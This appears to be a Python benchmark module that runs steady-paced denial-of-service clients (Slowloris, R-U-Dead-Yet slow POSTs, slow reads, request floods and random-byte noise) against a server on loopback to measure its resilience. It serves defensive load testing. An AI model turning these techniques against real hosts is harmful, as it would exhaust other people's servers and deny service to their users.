"""Clients that mean harm, at a steady pace: each does the same work a second whatever becomes of the server.

    python -m bench.attacks KIND PORT

runs one kind (or several by commas, or "all") against a server on loopback until its standard input ends, and prints a line
when all have connected. The pace is what makes the harm comparable: what the server spends on an attack alone can be
taken off what it spends on the attack and its good clients.
"""

from __future__ import annotations

import os
import random
import sys
from collections.abc import Callable

import fibers
from bench import material
from fibers.io import Stream, open_fd, socket

HEAD = b"GET / HTTP/1.1\r\nHost: h\r\n"
POST = b"POST /body HTTP/1.1\r\nHost: h\r\nContent-Length: 1000000\r\n\r\n"


connected = fibers.Semaphore(0)


def connect(port: int) -> Stream:
    """A client's connection."""
    stream = Stream(socket.create_connection(("127.0.0.1", port), timeout=10))
    connected.release()
    return stream


def again(attack: Callable[[int], None], port: int) -> None:
    """Whoever is thrown out comes back."""
    while True:
        try:
            attack(port)
        except (OSError, EOFError):
            pass
        fibers.sleep(0.05)


def drip(port: int, beginning: bytes) -> None:
    """A byte now and then, so that it never ends."""
    with connect(port) as client:
        client.write_all(beginning)
        while True:
            fibers.sleep(random.uniform(0.5, 1.5))
            client.write_all(b"x")


def slow_head(port: int) -> None:
    """Slowloris."""
    drip(port, HEAD + b"X: ")


def slow_body(port: int) -> None:
    """R-U-Dead-Yet."""
    drip(port, POST)


def slow_read(port: int) -> None:
    """Asks for a megabyte and takes a little of it."""
    with connect(port) as client:
        client.write_all(b"GET /large HTTP/1.1\r\nHost: h\r\n\r\n")
        while client.read_some(1000):
            fibers.sleep(random.uniform(0.5, 1.5))


def flood(port: int) -> None:
    """64 requests at once, and again."""
    with connect(port) as client:
        reader = fibers.spawn(client.read_all)
        try:
            while not reader.done():
                client.write_all((HEAD + b"\r\n") * 64)
                fibers.sleep(0.1)
        finally:
            reader.cancel()
            reader.join()


def noise(port: int) -> None:
    """Random bytes, until it is thrown out."""
    with connect(port) as client:
        client.write_all(random.randbytes(random.randrange(1, 2000)))
        client.write_eof()
        client.read_all()


#: What each kind does, and how many of it there are.
KINDS: dict[str, tuple[Callable[[int], None], int]] = {
    "slow head": (slow_head, 400),
    "slow body": (slow_body, 400),
    "slow read": (slow_read, 100),
    "flood": (flood, 4),
    "noise": (noise, 10),
}


def main(kinds: str, port: int) -> None:
    """Several kinds by commas, or "all"."""
    attackers = [KINDS[kind] for kind in (KINDS if kinds == "all" else kinds.split(","))]
    for attack, count in attackers:
        for _ in range(count):
            fibers.spawn(again, attack, port)
    for _ in range(sum(count for _, count in attackers)):
        connected.acquire()
    print("at work", flush=True)
    open_fd(sys.stdin.fileno(), "r").read_all()
    os._exit(0)


if __name__ == "__main__":
    material.raise_fd_limit()
    fibers.run(main, sys.argv[1], int(sys.argv[2]))
